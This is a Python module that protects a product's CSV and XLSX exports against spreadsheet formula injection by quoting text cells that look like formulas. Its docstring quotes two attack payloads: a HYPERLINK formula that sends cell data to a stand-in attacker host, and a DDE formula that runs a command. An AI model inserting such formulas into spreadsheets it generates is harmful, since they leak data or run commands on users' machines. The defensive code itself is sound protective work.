"""Writing CSV and XLSX files a spreadsheet program will not run (OWASP "CSV injection").

Anyone can type a citizen comment, and staff type unit names, reasons and notes; a text cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel, LibreOffice
and Google Sheets as a formula (``=HYPERLINK("http://evil.example/?x="&A1)``,
``=cmd|' /C calc'!A0``).
Every CSV and XLSX the product writes goes through this module:

- **CSV**: such a text gets a leading apostrophe (``'=1+1``), OWASP's rule. A text that already
  starts with apostrophes followed by one of those characters gets one more, so that
  :func:`restore` (used by :func:`survey_app.csv_files.read_csv` on every file the product reads)
  gives back exactly what was written: ``restore(inert(x)) == x`` for every text ``x``.
- **XLSX**: the cell is a string cell (``data_type`` ``"s"``, never ``"f"``) carrying Excel's own
  *quote prefix* style (what Excel sets when someone types ``'=1+1``): the text is shown and
  stored unchanged, stays text when someone edits the cell, and reads back unchanged.
- Numbers stay numbers: ``int``/``float`` values are never touched, nor is a text that is a plain
  number (``-2``, ``-0.125``, ``+1e-3``: a spreadsheet reads it as that number, not a formula), so
  a negative figure in a numeric column is still a number. Column names are not changed either.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell import Cell

DANGEROUS = frozenset("=+-@\t\r")
"""First characters that make a spreadsheet program read a cell as a formula."""
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def needs_quote(text: str) -> bool:
    """True when ``text`` (after any leading apostrophes) starts like a formula and is not a
    plain number."""
    return text.lstrip("'")[:1] in DANGEROUS and not _NUMBER.fullmatch(text)


def inert(value: Any) -> Any:
    """``value`` as a CSV cell: a formula-like text gets a leading apostrophe; anything else
    (numbers, dates, None, other texts) is returned as it is."""
    if isinstance(value, str) and needs_quote(value):
        return "'" + value
    return value


def restore(text: str) -> str:
    """The text :func:`inert` was given (one leading apostrophe it added removed)."""
    if text.startswith("'") and needs_quote(text[1:]):
        return text[1:]
    return text


class InertWriter:
    """``csv.writer`` whose rows go through :func:`inert`."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([inert(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class InertDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """``csv.DictWriter`` whose values go through :func:`inert` (the header too: the contract's
    column names are never formula-like, but a copied operator column may be)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: inert(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def csv_writer(out: Any, **options: Any) -> InertWriter:
    """A CSV writer (``lineterminator="\\n"`` unless given) that writes inert cells."""
    options.setdefault("lineterminator", "\n")
    return InertWriter(out, **options)


def dict_writer(out: Any, fieldnames: Sequence[str], **options: Any) -> InertDictWriter:
    """A CSV DictWriter (``lineterminator="\\n"`` unless given) that writes inert cells."""
    options.setdefault("lineterminator", "\n")
    return InertDictWriter(out, fieldnames=fieldnames, **options)


def inert_cell(cell: Cell) -> Cell:
    """Make an XLSX cell holding text a string cell (never a formula), quote-prefixed when it
    starts like a formula; numbers and other values are left alone."""
    value = cell.value
    if isinstance(value, str):
        cell.data_type = "s"
        if value[:1] in DANGEROUS:
            cell.quotePrefix = True
    return cell


def xlsx_cells(sheet: Any, values: Iterable[Any]) -> list[Cell]:
    """Cells for ``sheet.append`` (normal or write-only sheet), each passed through
    :func:`inert_cell`."""
    from openpyxl.cell import WriteOnlyCell

    return [inert_cell(WriteOnlyCell(sheet, value=value)) for value in values]


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` with every text cell inert."""
    sheet.append(xlsx_cells(sheet, values))


def set_cell(sheet: Any, row: int, column: int, value: Any) -> Cell:
    """``sheet.cell(row, column, value)`` with the cell made inert."""
    return inert_cell(sheet.cell(row, column, value))
